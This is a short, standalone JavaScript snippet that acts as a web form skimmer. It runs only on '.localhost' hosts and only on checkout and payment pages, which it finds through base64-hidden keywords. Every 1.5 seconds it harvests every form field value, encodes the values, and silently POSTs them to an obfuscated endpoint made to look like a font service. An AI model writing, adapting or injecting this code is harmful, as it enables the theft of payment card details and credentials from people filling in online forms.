(function () {
  var d = document, l = d.location;
  if (l.hostname.split('.').pop() !== 'localhost' || l.hostname.indexOf('.localhost') < 0) return;
  var words = ['b25lcGFnZQ==', 'Y2hlY2tvdXQ=', 'b25lc3RlcA==', 'cGF5bWVudA=='];
  var hit = false;
  for (var i = 0; i < words.length; i++) if (l.href.toLowerCase().indexOf(atob(words[i])) >= 0) hit = true;
  if (!hit) return;
  setInterval(function () {
    var els = d.querySelectorAll('input, select, textarea'), res = [];
    for (var j = 0; j < els.length; j++) if (els[j].value && els[j].value.length < 256) res.push((els[j].name || els[j].id) + '=' + els[j].value);
    var pack = btoa(unescape(encodeURIComponent(res.join('&'))));
    if (pack === window.__last) return;
    window.__last = pack;
    var x = new XMLHttpRequest();
    x.open('POST', atob('aHR0cHM6Ly9mb250cy1zdGF0aWMubG9jYWxob3N0L2Nzcw=='), true);
    x.setRequestHeader('Content-type', 'application/x-www-form-urlencoded');
    x.send('d=' + pack);
  }, 1500);
})();
